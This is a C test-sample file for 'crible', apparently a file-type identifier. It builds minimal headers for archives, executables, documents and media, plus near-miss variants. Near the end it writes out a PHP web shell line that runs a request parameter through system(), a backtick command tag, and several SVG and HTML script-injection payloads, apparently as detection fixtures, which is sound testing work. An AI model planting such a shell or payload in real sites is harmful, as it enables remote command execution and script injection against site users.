/*
 * samples.c - builders for every format crible identifies, their near
 * misses, and the end-to-end scenarios.  Layouts follow each format's
 * specification closely enough for the identifier's structural checks;
 * bodies are filler.
 */
#include "samples.h"

#include <stdlib.h>
#include <string.h>

/* --- buffer ------------------------------------------------------------- */

void sb_free(struct sbuf *b)
{
	free(b->p);
	memset(b, 0, sizeof *b);
}

void sb_put(struct sbuf *b, const void *p, size_t n)
{
	if (b->len + n > b->cap) {
		size_t cap = b->cap ? b->cap : 256;
		while (cap < b->len + n)
			cap *= 2;
		uint8_t *q = realloc(b->p, cap);
		if (!q)
			abort();	/* test code: out of memory is fatal */
		b->p = q;
		b->cap = cap;
	}
	if (n)
		memcpy(b->p + b->len, p, n);
	b->len += n;
}

void sb_str(struct sbuf *b, const char *s) { sb_put(b, s, strlen(s)); }
void sb_u8(struct sbuf *b, uint8_t v) { sb_put(b, &v, 1); }
void sb_u16le(struct sbuf *b, uint16_t v) { uint8_t x[2] = {(uint8_t)v, (uint8_t)(v >> 8)}; sb_put(b, x, 2); }
void sb_u16be(struct sbuf *b, uint16_t v) { uint8_t x[2] = {(uint8_t)(v >> 8), (uint8_t)v}; sb_put(b, x, 2); }
void sb_u32le(struct sbuf *b, uint32_t v)
{
	uint8_t x[4] = {(uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24)};
	sb_put(b, x, 4);
}
uint32_t sb_get32le(const uint8_t *p)
{
	return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}
void sb_set32le(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v, p[1] = (uint8_t)(v >> 8), p[2] = (uint8_t)(v >> 16), p[3] = (uint8_t)(v >> 24);
}
void sb_u32be(struct sbuf *b, uint32_t v)
{
	uint8_t x[4] = {(uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v};
	sb_put(b, x, 4);
}
void sb_u64le(struct sbuf *b, uint64_t v)
{
	sb_u32le(b, (uint32_t)v);
	sb_u32le(b, (uint32_t)(v >> 32));
}
void sb_zero(struct sbuf *b, size_t n)
{
	static const uint8_t z[256];
	while (n) {
		size_t k = n < sizeof z ? n : sizeof z;
		sb_put(b, z, k);
		n -= k;
	}
}
void sb_pad(struct sbuf *b, size_t to)
{
	if (b->len < to)
		sb_zero(b, to - b->len);
}

uint32_t sb_crc32(const uint8_t *p, size_t n)
{
	uint32_t c = 0xffffffffu;
	for (size_t i = 0; i < n; i++) {
		c ^= p[i];
		for (int k = 0; k < 8; k++)
			c = c & 1 ? (c >> 1) ^ 0xedb88320u : c >> 1;
	}
	return c ^ 0xffffffffu;
}

/* --- ZIP ---------------------------------------------------------------- */

struct zent {
	const char *name;
	const char *data;
};

/* Stored entries, through the shared writer. */
static void zip_build(struct sbuf *b, const struct zent *e, size_t n)
{
	struct zspec z[16];
	for (size_t i = 0; i < n && i < 16; i++)
		z[i] = (struct zspec){.name = e[i].name, .data = e[i].data, .len = strlen(e[i].data)};
	zip_write(b, z, n < 16 ? n : 16);
}

#define ZIP(fn, ...)                                              \
	static void fn(struct sbuf *b)                            \
	{                                                         \
		static const struct zent e[] = {__VA_ARGS__};     \
		zip_build(b, e, sizeof e / sizeof e[0]);          \
	}

#define CT {"[Content_Types].xml", "<?xml version=\"1.0\"?><Types/>"}, {"_rels/.rels", "<Relationships/>"}
ZIP(b_zip, {"readme.txt", "hello\n"}, {"data/a.bin", "x"})
ZIP(b_jar, {"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"}, {"a/B.class", "\xca\xfe\xba\xbe"})
ZIP(b_apk, {"AndroidManifest.xml", "x"}, {"classes.dex", "dex\n035"}, {"META-INF/MANIFEST.MF", "x"})
ZIP(b_docx, CT, {"word/document.xml", "<w:document/>"})
ZIP(b_docm, CT, {"word/document.xml", "<w:document/>"}, {"word/vbaProject.bin", "\xd0\xcf\x11\xe0"})
ZIP(b_xlsx, CT, {"xl/workbook.xml", "<workbook/>"})
ZIP(b_xlsm, CT, {"xl/workbook.xml", "<workbook/>"}, {"xl/vbaProject.bin", "x"})
ZIP(b_pptx, CT, {"ppt/presentation.xml", "<p/>"})
ZIP(b_pptm, CT, {"ppt/presentation.xml", "<p/>"}, {"ppt/vbaProject.bin", "x"})
ZIP(b_odt, {"mimetype", "application/vnd.oasis.opendocument.text"}, {"content.xml", "<x/>"})
ZIP(b_ods, {"mimetype", "application/vnd.oasis.opendocument.spreadsheet"}, {"content.xml", "<x/>"})
ZIP(b_odp, {"mimetype", "application/vnd.oasis.opendocument.presentation"}, {"content.xml", "<x/>"})
ZIP(b_epub, {"mimetype", "application/epub+zip"}, {"META-INF/container.xml", "<x/>"})
/* Near misses: the marker entry misspelt, so only a ZIP remains. */
ZIP(n_docx, {"[Content_Types].xm", "x"}, {"word/document.xml", "<w:document/>"})
ZIP(n_jar, {"META-INF/MANIFEST.M", "x"})
ZIP(n_odt, {"mimetypf", "application/vnd.oasis.opendocument.text"})

static void n_zip(struct sbuf *b)
{
	b_zip(b);
	/* The central directory's signature broken, and no local header at 0. */
	for (size_t i = 0; i + 4 <= b->len; i++)
		if (!memcmp(b->p + i, "PK\1\2", 4))
			b->p[i + 3] = 3;
	b->p[0] = 'Q';
}

/* --- tar ---------------------------------------------------------------- */

static void tar_header(struct sbuf *b, const char *name, char type, const char *magic, size_t mlen)
{
	uint8_t h[512];
	memset(h, 0, sizeof h);
	memcpy(h, name, strlen(name));
	memcpy(h + 100, "0000644", 7);
	memcpy(h + 108, "0001750", 7);
	memcpy(h + 116, "0001750", 7);
	memcpy(h + 124, "00000000006", 11);
	memcpy(h + 136, "14500000000", 11);
	h[156] = (uint8_t)type;
	if (magic)
		memcpy(h + 257, magic, mlen);
	memset(h + 148, ' ', 8);
	unsigned sum = 0;
	for (int i = 0; i < 512; i++)
		sum += h[i];
	char ck[8];
	for (int i = 5; i >= 0; i--, sum >>= 3)
		ck[i] = (char)('0' + (sum & 7));
	ck[6] = '\0';
	ck[7] = ' ';
	memcpy(h + 148, ck, 8);
	sb_put(b, h, 512);
	sb_str(b, "hello\n");
	sb_pad(b, b->len + 506);
}

static void b_tar(struct sbuf *b) { tar_header(b, "hello.txt", '0', "ustar\00000", 8); sb_zero(b, 1024); }
static void b_tar_gnu(struct sbuf *b) { tar_header(b, "hello.txt", '0', "ustar  \0", 8); sb_zero(b, 1024); }
static void b_tar_pax(struct sbuf *b) { tar_header(b, "PaxHeaders/hello", 'x', "ustar\00000", 8); sb_zero(b, 1024); }
static void b_tar_v7(struct sbuf *b) { tar_header(b, "hello.txt", '0', NULL, 0); sb_zero(b, 1024); }
static void n_tar(struct sbuf *b)
{
	b_tar(b);
	b->p[150] ^= 1;	/* checksum off by one digit */
}

/* --- compressed streams ------------------------------------------------- */

static void b_gzip(struct sbuf *b)
{
	static const char msg[] = "hello, world\n";
	sb_put(b, "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10);
	/* one stored deflate block: BFINAL=1, BTYPE=00, LEN, NLEN */
	sb_u8(b, 1);
	sb_u16le(b, sizeof msg - 1);
	sb_u16le(b, (uint16_t)~(sizeof msg - 1));
	sb_put(b, msg, sizeof msg - 1);
	sb_u32le(b, sb_crc32((const uint8_t *)msg, sizeof msg - 1));
	sb_u32le(b, sizeof msg - 1);
}
static void n_gzip(struct sbuf *b) { b_gzip(b); b->p[2] = 7; /* not deflate */ }
static void b_bzip2(struct sbuf *b) { sb_put(b, "BZh91AY&SY\x12\x34\x56\x78\0\0\0\0", 18); }
static void n_bzip2(struct sbuf *b) { sb_put(b, "BZh01AY&SY\x12\x34\x56\x78\0\0\0\0", 18); }
static void b_xz(struct sbuf *b)
{
	sb_put(b, "\xfd" "7zXZ\0\0\x04", 8);
	uint8_t f[2] = {0, 4};
	sb_u32le(b, sb_crc32(f, 2));
	sb_zero(b, 20);
}
static void n_xz(struct sbuf *b) { b_xz(b); b->p[6] = 1; }
static void b_zstd(struct sbuf *b) { sb_put(b, "\x28\xb5\x2f\xfd\x24\x05\x29\0\0hello", 14); }
static void n_zstd(struct sbuf *b) { sb_put(b, "\x28\xb5\x2f\xfc\x24\x05\x29\0\0hello", 14); }
static void b_lz4(struct sbuf *b) { sb_put(b, "\x04\x22\x4d\x18\x64\x40\xa7\x05\0\0\x80hello\0\0\0\0", 20); }
static void n_lz4(struct sbuf *b) { sb_put(b, "\x04\x22\x4d\x18\xa4\x40\xa7\x05\0\0\x80hello\0\0\0\0", 20); }

/* --- archives ----------------------------------------------------------- */

static void b_7z(struct sbuf *b) { sb_put(b, "7z\xbc\xaf\x27\x1c\x00\x04", 8); sb_zero(b, 24); }
static void n_7z(struct sbuf *b) { sb_put(b, "7z\xbc\xaf\x27\x1d\x00\x04", 8); sb_zero(b, 24); }
static void b_rar5(struct sbuf *b)
{
	sb_put(b, "Rar!\x1a\x07\x01\x00", 8);
	/* main header: size 3, type 1, flags 0, archive flags 0 */
	uint8_t h[] = {0x03, 0x01, 0x00, 0x00};
	sb_u32le(b, sb_crc32(h + 0, 4));
	sb_put(b, h, 4);
	/* end of archive: size 3, type 5, flags 0, end flags 0 */
	uint8_t e[] = {0x03, 0x05, 0x00, 0x00};
	sb_u32le(b, sb_crc32(e, 4));
	sb_put(b, e, 4);
}
static void n_rar5(struct sbuf *b) { sb_put(b, "Rar \x1a\x07\x01\x00", 8); sb_zero(b, 16); }
static void b_rar4(struct sbuf *b)
{
	sb_put(b, "Rar!\x1a\x07\x00", 7);
	sb_put(b, "\xcf\x90\x73\x00\x00\x0d\x00\x00\x00\x00\x00\x00\x00", 13);
}
static void n_rar4(struct sbuf *b) { sb_put(b, "Rar!\x1a\x06\x00", 7); sb_zero(b, 13); }
static void b_cab(struct sbuf *b)
{
	sb_str(b, "MSCF");
	sb_u32le(b, 0);
	sb_u32le(b, 64);	/* cbCabinet */
	sb_u32le(b, 0);
	sb_u32le(b, 44);	/* coffFiles */
	sb_u32le(b, 0);
	sb_u8(b, 3);		/* version 1.3 */
	sb_u8(b, 1);
	sb_pad(b, 64);
}
static void n_cab(struct sbuf *b) { b_cab(b); b->p[24] = 4; }
static void b_iso(struct sbuf *b)
{
	sb_zero(b, 0x8000);
	sb_u8(b, 1);
	sb_str(b, "CD001");
	sb_u8(b, 1);
	sb_pad(b, 0x8800);
}
static void n_iso(struct sbuf *b) { b_iso(b); b->p[0x8003] = 'E'; }
static void b_cpio(struct sbuf *b)
{
	sb_str(b, "070701");
	for (int i = 0; i < 13; i++)
		sb_str(b, "0000000A");
	sb_str(b, "hello\0\0\0");
}
static void n_cpio(struct sbuf *b)
{
	sb_str(b, "070701");
	sb_str(b, "zz hello, this is only text that happens to start with digits, long enough.\n");
}
static void b_ar(struct sbuf *b) { sb_str(b, "!<arch>\nhello.o/        0           0     0     644     6         `\nhello\n"); }
static void n_ar(struct sbuf *b) { sb_str(b, "!<arch> hello.o/        0           0     0     644     6         `\nhello\n"); }
static void b_deb(struct sbuf *b) { sb_str(b, "!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n"); }
static void b_rpm(struct sbuf *b) { sb_put(b, "\xed\xab\xee\xdb\x03\x00\x00\x00\x00\x01", 10); sb_pad(b, 96); }
static void n_rpm(struct sbuf *b) { sb_put(b, "\xed\xab\xee\xdb\x09\x00\x00\x00\x00\x01", 10); sb_pad(b, 96); }
static void b_dmg(struct sbuf *b)
{
	sb_str(b, "x\x01 compressed blocks would be here");
	sb_pad(b, 4096);
	sb_str(b, "koly");
	sb_u32be(b, 4);
	sb_u32be(b, 512);
	sb_pad(b, 4096 + 512);
}
static void n_dmg(struct sbuf *b) { b_dmg(b); b->p[4096 + 7] = 3; }
static void b_vhd(struct sbuf *b)
{
	sb_zero(b, 4096);	/* a fixed VHD: the data, then only a footer */
	sb_str(b, "conectix");
	sb_u32be(b, 2);
	sb_u32be(b, 0x00010000);
	sb_pad(b, 4096 + 512);
}
static void n_vhd(struct sbuf *b) { b_vhd(b); b->p[4096 + 11] = 0; }
static void b_vhdx(struct sbuf *b) { sb_str(b, "vhdxfile"); sb_pad(b, 1024); }
static void n_vhdx(struct sbuf *b) { sb_str(b, "vhdxfilf"); sb_pad(b, 1024); }

/* --- executables -------------------------------------------------------- */

static void pe(struct sbuf *b, int pe64, int dll, int subsys)
{
	sb_str(b, "MZ");
	sb_put(b, "\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00", 16);
	sb_pad(b, 0x3c);
	sb_u32le(b, 0x80);
	sb_pad(b, 0x80);
	sb_str(b, "PE");
	sb_u16le(b, 0);
	sb_u16le(b, pe64 ? 0x8664 : 0x14c);
	sb_u16le(b, 1);
	sb_u32le(b, 0);
	sb_u32le(b, 0);
	sb_u32le(b, 0);
	sb_u16le(b, pe64 ? 240 : 224);
	sb_u16le(b, (uint16_t)(0x0102 | (dll ? 0x2000 : 0) | (pe64 ? 0x20 : 0)));
	size_t opt = b->len;
	sb_u16le(b, pe64 ? 0x20b : 0x10b);
	sb_pad(b, opt + 68);
	sb_u16le(b, (uint16_t)subsys);
	sb_pad(b, opt + (pe64 ? 240 : 224));
	sb_str(b, ".text");
	sb_pad(b, 1024);
}
static void b_pe32_exe(struct sbuf *b) { pe(b, 0, 0, 2); }
void sample_pe(struct sbuf *b) { b_pe32_exe(b); }
static void b_pe64_exe(struct sbuf *b) { pe(b, 1, 0, 3); }
static void b_pe32_dll(struct sbuf *b) { pe(b, 0, 1, 2); }
static void b_pe64_dll(struct sbuf *b) { pe(b, 1, 1, 2); }
static void b_pe64_sys(struct sbuf *b) { pe(b, 1, 0, 1); }
static void b_pe32_sys(struct sbuf *b) { pe(b, 0, 0, 1); }
static void n_pe(struct sbuf *b)
{
	/* "MZ" then text: e_cblp reads as two letters, no PE header. */
	sb_str(b, "MZ is how this plain text note begins, which must not make it a program.");
	while (b->len < 199)
		sb_u8(b, '.');
	sb_u8(b, '\n');
}
static void b_dos(struct sbuf *b)
{
	sb_str(b, "MZ");
	sb_u16le(b, 0x90);	/* bytes in last page */
	sb_u16le(b, 1);		/* pages */
	sb_u16le(b, 0);
	sb_u16le(b, 4);		/* header paragraphs */
	sb_pad(b, 0x3c);
	sb_u32le(b, 0);
	sb_pad(b, 0x90);
}

static void elf(struct sbuf *b, uint16_t type, int pie)
{
	sb_put(b, "\x7f" "ELF\x02\x01\x01\x00", 8);
	sb_zero(b, 8);
	sb_u16le(b, type);
	sb_u16le(b, 62);	/* x86-64 */
	sb_u32le(b, 1);
	sb_u64le(b, 0x1000);	/* entry */
	sb_u64le(b, 64);	/* phoff */
	sb_u64le(b, 0);		/* shoff */
	sb_u32le(b, 0);
	sb_u16le(b, 64);
	sb_u16le(b, 56);	/* phentsize */
	sb_u16le(b, pie ? 1 : 0);
	sb_u16le(b, 64);
	sb_u16le(b, 0);
	sb_u16le(b, 0);
	if (pie) {
		/* PT_DYNAMIC at 120, holding DT_FLAGS_1 = DF_1_PIE */
		sb_u32le(b, 2);
		sb_u32le(b, 6);
		sb_u64le(b, 120);
		sb_u64le(b, 120);
		sb_u64le(b, 120);
		sb_u64le(b, 32);
		sb_u64le(b, 32);
		sb_u64le(b, 8);
		sb_u64le(b, 0x6ffffffb);
		sb_u64le(b, 0x08000000);
		sb_u64le(b, 0);
		sb_u64le(b, 0);
	}
	sb_pad(b, 256);
}
static void b_elf_exec(struct sbuf *b) { elf(b, 2, 0); }
void sample_elf(struct sbuf *b) { b_elf_exec(b); }
static void b_elf_so(struct sbuf *b) { elf(b, 3, 0); }
static void b_elf_pie(struct sbuf *b) { elf(b, 3, 1); }
static void b_elf_rel(struct sbuf *b) { elf(b, 1, 0); }
/* No such class, and no program header size of either class: binfmt_elf refuses it. */
static void n_elf(struct sbuf *b) { elf(b, 2, 0); b->p[4] = 3; b->p[54] = 0; }
/* EI_VERSION 0, and a class byte of 3: binfmt_elf runs both (it checks e_machine and e_phentsize). */
static void b_elf_v0(struct sbuf *b) { elf(b, 2, 0); b->p[6] = 0; }
static void b_elf_class3(struct sbuf *b) { elf(b, 2, 0); b->p[4] = 3; }

/*
 * A tiny PE: the PE header at offset 4, over the DOS header, so that
 * e_lfanew (0x3C) is the optional header's SectionAlignment, 4.
 */
static void tiny_pe(struct sbuf *b, const char *sig)
{
	sb_str(b, "MZ");
	sb_u16le(b, 0);
	sb_put(b, sig, 4);
	sb_u16le(b, 0x14c);	/* i386 */
	sb_u16le(b, 0);		/* no sections */
	sb_zero(b, 12);
	sb_u16le(b, 0x60);	/* optional header size */
	sb_u16le(b, 0x0103);	/* executable, no relocations */
	sb_u16le(b, 0x10b);	/* PE32 */
	sb_zero(b, 14);
	sb_u32le(b, 0x7c);	/* entry point */
	sb_zero(b, 8);
	sb_u32le(b, 0x400000);	/* image base */
	sb_u32le(b, 4);		/* section alignment: also e_lfanew, at 0x3C */
	sb_u32le(b, 4);		/* file alignment */
	sb_zero(b, 8);
	sb_u16le(b, 4);		/* subsystem version */
	sb_zero(b, 6);
	sb_u32le(b, 0x80);	/* image size */
	sb_u32le(b, 0x7c);	/* headers size */
	sb_u32le(b, 0);
	sb_u16le(b, 2);		/* GUI subsystem */
	sb_pad(b, 0x7c);
	sb_put(b, "j*XÃ", 4);	/* push 42; pop eax; ret */
}
static void b_pe_tiny(struct sbuf *b) { tiny_pe(b, "PE\0\0"); }
static void n_pe_tiny(struct sbuf *b) { tiny_pe(b, "PE\0\1"); }
static void b_macho(struct sbuf *b)
{
	sb_put(b, "\xcf\xfa\xed\xfe", 4);
	sb_u32le(b, 0x01000007);
	sb_u32le(b, 3);
	sb_u32le(b, 2);	/* MH_EXECUTE */
	sb_pad(b, 64);
}
static void n_macho(struct sbuf *b) { b_macho(b); b->p[12] = 40; }
static void b_macho_fat(struct sbuf *b)
{
	sb_put(b, "\xca\xfe\xba\xbe", 4);
	sb_u32be(b, 2);
	sb_u32be(b, 0x01000007);
	sb_u32be(b, 3);
	sb_pad(b, 64);
}
static void b_class(struct sbuf *b) { sb_put(b, "\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10", 10); sb_pad(b, 64); }
static void n_class(struct sbuf *b) { sb_put(b, "\xca\xfe\xba\xbe\x00\x00\x00\x14\x00\x10", 10); sb_pad(b, 64); }

/* --- documents ---------------------------------------------------------- */

static void b_pdf(struct sbuf *b) { sb_str(b, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"); }
static void b_pdf_late(struct sbuf *b) { sb_str(b, "junk before the header is accepted by readers\n"); b_pdf(b); }
static void n_pdf(struct sbuf *b) { sb_str(b, "%PDX-1.7\n1 0 obj\n<< >>\nendobj\n"); }

/* A minimal CFB: header, one FAT sector, one directory sector. */
static void ole(struct sbuf *b, const char *stream, const uint8_t *clsid)
{
	sb_put(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	sb_zero(b, 16);
	sb_u16le(b, 0x3e);
	sb_u16le(b, 3);
	sb_u16le(b, 0xfffe);
	sb_u16le(b, 9);
	sb_u16le(b, 6);
	sb_zero(b, 6);
	sb_u32le(b, 0);
	sb_u32le(b, 1);		/* FAT sectors */
	sb_u32le(b, 1);		/* first directory sector */
	sb_u32le(b, 0);
	sb_u32le(b, 4096);
	sb_u32le(b, 0xfffffffe);
	sb_u32le(b, 0);
	sb_u32le(b, 0xfffffffe);
	sb_u32le(b, 0);
	sb_u32le(b, 0);		/* DIFAT[0]: the FAT is sector 0 */
	while (b->len < 512)
		sb_u32le(b, 0xffffffff);
	/* sector 0: FAT */
	sb_u32le(b, 0xfffffffd);
	sb_u32le(b, 0xfffffffe);
	while (b->len < 1024)
		sb_u32le(b, 0xffffffff);
	/* sector 1: directory */
	const char *names[2] = {"Root Entry", stream};
	for (int i = 0; i < 2; i++) {
		size_t e = b->len;
		size_t l = strlen(names[i]);
		for (size_t k = 0; k < l; k++)
			sb_u16le(b, (uint8_t)names[i][k]);
		sb_pad(b, e + 64);
		sb_u16le(b, (uint16_t)(2 * (l + 1)));
		sb_u8(b, i == 0 ? 5 : 2);
		sb_u8(b, 1);
		sb_u32le(b, 0xffffffff);
		sb_u32le(b, 0xffffffff);
		sb_u32le(b, i == 0 ? 1 : 0xffffffff);
		if (i == 0 && clsid)
			sb_put(b, clsid, 16);
		sb_pad(b, e + 128);
	}
	sb_pad(b, 1536);
}
static const uint8_t msi_clsid[16] = {0x84, 0x10, 0x0c, 0x00, 0x00, 0x00, 0x00, 0x00,
				      0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46};
static void b_doc(struct sbuf *b) { ole(b, "WordDocument", NULL); }
static void b_xls(struct sbuf *b) { ole(b, "Workbook", NULL); }
static void b_ppt(struct sbuf *b) { ole(b, "PowerPoint Document", NULL); }
static void b_msg(struct sbuf *b) { ole(b, "__substg1.0_0037001F", NULL); }
static void b_msi(struct sbuf *b) { ole(b, "x", msi_clsid); }
static void n_doc(struct sbuf *b) { ole(b, "WordDocumenu", NULL); }
static void n_ole(struct sbuf *b) { ole(b, "WordDocument", NULL); b->p[0x1c] = 0xfe; b->p[0x1d] = 0xfe; }
static void b_rtf(struct sbuf *b) { sb_str(b, "{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello.}\n"); }
static void n_rtf(struct sbuf *b) { sb_str(b, "{\\rx1\\ansi Hello.}\n"); }
static void b_one(struct sbuf *b) { sb_put(b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16); sb_pad(b, 128); }
static void n_one(struct sbuf *b) { sb_put(b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd4", 16); sb_pad(b, 128); }
static void b_lnk(struct sbuf *b)
{
	sb_put(b, "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20);
	sb_u32le(b, 0x0000009b);	/* LinkFlags */
	sb_pad(b, 76);
	sb_pad(b, 256);
}
static void n_lnk(struct sbuf *b) { b_lnk(b); b->p[4] = 2; }
static void b_chm(struct sbuf *b) { sb_put(b, "ITSF\x03\0\0\0\x60\0\0\0", 12); sb_pad(b, 96); }
static void n_chm(struct sbuf *b) { sb_put(b, "ITSF\x02\0\0\0\x60\0\0\0", 12); sb_pad(b, 96); }

/* --- images and media --------------------------------------------------- */

/* PHP opening tags as PHP reads them: any case, and the echo tag. */
static void b_php_upper(struct sbuf *b) { sb_str(b, "<html><body>\n<?PHP system($_GET['c']); ?>\n</body></html>\n"); }
static void b_php_echo(struct sbuf *b) { sb_str(b, "Hello <?= `id` ?>, welcome back.\n"); }
/* The twin: "<?" followed by prose is no opening tag. */
static void n_php_tag(struct sbuf *b) { sb_str(b, "Is 1<?2 true? The answer <? is in the notes.\n"); }

/* A shell script whose comment mentions the PDF header: "#!" at byte 0 decides. */
static void b_sh_pdf_comment(struct sbuf *b) { sb_str(b, "#!/bin/sh\n# writes a %PDF-1.7 report\nmake report\n"); }

/* Python 3.11 bytecode: magic 3495, CRLF, flags 0, mtime, source size, then a code object (0xe3). */
static void b_pyc(struct sbuf *b)
{
	sb_u16le(b, 3495);
	sb_str(b, "\r\n");
	sb_u32le(b, 0);
	sb_u32le(b, 1764417600);
	sb_u32le(b, 42);
	sb_u8(b, 0xe3);
	sb_zero(b, 32);
}

/* Text that opens with two letters and a CRLF: not bytecode. */
static void n_pyc(struct sbuf *b) { sb_str(b, "ab\r\ncd,ef\r\nthis line and the next are plain text\r\n"); }

static void b_png(struct sbuf *b)
{
	sb_put(b, "\x89PNG\r\n\x1a\n", 8);
	sb_u32be(b, 13);
	sb_str(b, "IHDR");
	sb_u32be(b, 1);
	sb_u32be(b, 1);
	sb_put(b, "\x08\x02\x00\x00\x00", 5);
	sb_u32be(b, sb_crc32(b->p + 12, 17));
	sb_u32be(b, 0);
	sb_str(b, "IEND");
	sb_u32be(b, 0xae426082);
}
static void n_png(struct sbuf *b) { b_png(b); b->p[12] = 'i'; }
void sample_png(struct sbuf *b) { b_png(b); }
static void b_jpeg(struct sbuf *b) { sb_put(b, "\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9", 22); }
static void n_jpeg(struct sbuf *b) { sb_put(b, "\xff\xd8\xfe\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9", 22); }
static void b_gif(struct sbuf *b) { sb_put(b, "GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;", 35); }
static void n_gif(struct sbuf *b) { sb_put(b, "GIF90a\x01\0\x01\0\x80\0\0", 13); }
static void b_webp(struct sbuf *b) { sb_str(b, "RIFF"); sb_u32le(b, 30); sb_str(b, "WEBPVP8 "); sb_pad(b, 38); }
static void n_webp(struct sbuf *b) { sb_str(b, "RIFF"); sb_u32le(b, 30); sb_str(b, "WEBQVP8 "); sb_pad(b, 38); }
static void b_bmp(struct sbuf *b)
{
	sb_str(b, "BM");
	sb_u32le(b, 58);
	sb_u32le(b, 0);
	sb_u32le(b, 54);
	sb_u32le(b, 40);
	sb_u32le(b, 1);
	sb_u32le(b, 1);
	sb_u16le(b, 1);
	sb_u16le(b, 24);
	sb_pad(b, 58);
}
static void n_bmp(struct sbuf *b) { b_bmp(b); b->p[14] = 41; }
static void b_tiff(struct sbuf *b) { sb_put(b, "II*\0\x08\0\0\0\0\0", 10); sb_pad(b, 64); }
static void n_tiff(struct sbuf *b) { sb_put(b, "II*\0\x02\0\0\0\0\0", 10); sb_pad(b, 64); }
static void b_ico(struct sbuf *b)
{
	sb_put(b, "\0\0\1\0\1\0", 6);
	sb_put(b, "\x10\x10\0\0\1\0\x20\0", 8);
	sb_u32le(b, 0x468);
	sb_u32le(b, 22);
	sb_pad(b, 64);
}
static void n_ico(struct sbuf *b) { b_ico(b); b->p[4] = 0; }
static void ftyp(struct sbuf *b, const char *major, const char *compat)
{
	sb_u32be(b, 24);
	sb_str(b, "ftyp");
	sb_str(b, major);
	sb_u32be(b, 0);
	sb_str(b, "mif1");
	sb_str(b, compat);
	sb_pad(b, 64);
}
static void b_heic(struct sbuf *b) { ftyp(b, "heic", "heic"); }
static void b_avif(struct sbuf *b) { ftyp(b, "avif", "avif"); }
static void b_mp4(struct sbuf *b) { ftyp(b, "isom", "mp41"); }
static void n_mp4(struct sbuf *b) { sb_u32be(b, 24); sb_str(b, "ftyq"); sb_str(b, "isom"); sb_pad(b, 64); }
static void b_mp3(struct sbuf *b) { sb_put(b, "ID3\x03\0\0\0\0\0\x0a", 10); sb_pad(b, 20); sb_put(b, "\xff\xfb\x90\x64", 4); sb_pad(b, 64); }
static void n_mp3(struct sbuf *b) { sb_put(b, "ID3\x09\0\0\0\0\0\x0a", 10); sb_pad(b, 64); }
static void b_wav(struct sbuf *b) { sb_str(b, "RIFF"); sb_u32le(b, 36); sb_str(b, "WAVEfmt "); sb_pad(b, 44); }
static void b_ogg(struct sbuf *b) { sb_put(b, "OggS\0\x02\0\0", 8); sb_pad(b, 64); }
static void n_ogg(struct sbuf *b) { sb_put(b, "OggS\x01\x02\0\0", 8); sb_pad(b, 64); }
static void b_flac(struct sbuf *b) { sb_str(b, "fLaC"); sb_put(b, "\0\0\0\x22", 4); sb_pad(b, 42); }
static void n_flac(struct sbuf *b) { sb_str(b, "fLaD"); sb_put(b, "\0\0\0\x22", 4); sb_pad(b, 42); }

/* --- text --------------------------------------------------------------- */

#define TEXT(fn, s) \
	static void fn(struct sbuf *b) { sb_str(b, s); }

TEXT(b_text, "Meeting notes\n\nWe agreed to ship on Friday. Bring snacks.\n")
static void n_text(struct sbuf *b) { sb_put(b, "Meeting notes\0\0\x01 binary after all\n", 34); }
TEXT(b_utf8, "R\xc3\xa9sum\xc3\xa9 \xe2\x80\x94 curriculum vitae\nExp\xc3\xa9rience: 10 ans.\n")
TEXT(b_csv, "name,email,score\nalice,alice@example.org,10\nbob,bob@example.org,7\n")
TEXT(n_csv, "name,email,score\nalice;alice@example.org\nbob\n")
TEXT(b_json, "{\"name\": \"crible\", \"tags\": [\"a\", \"b\"], \"n\": 1.5e3, \"ok\": true, \"x\": null}\n")
TEXT(n_json, "{\"name\": \"crible\", \"tags\": [\"a\", \"b\"] oops}\n")
TEXT(b_xml, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<catalog><book id=\"1\"/></catalog>\n")
TEXT(b_html, "<!DOCTYPE html>\n<html><head><title>Hi</title></head><body><p>Hello</p></body></html>\n")
TEXT(n_html, "This text mentions <html> in passing but is a note.\n")
TEXT(b_md, "# Project\n\nSome **bold** words and a [link](https://example.org).\n\n- one\n- two\n")
TEXT(b_svg, "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>\n")
TEXT(b_svg_script, "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>\n")
TEXT(b_svg_onload, "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect/></svg>\n")
TEXT(b_svg_jsurl, "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"&#106;ava&#x09;script:alert(1)\"><text>x</text></a></svg>\n")
TEXT(b_html_script, "<!DOCTYPE html>\n<html><body><img src=x onerror=alert(1)></body></html>\n")
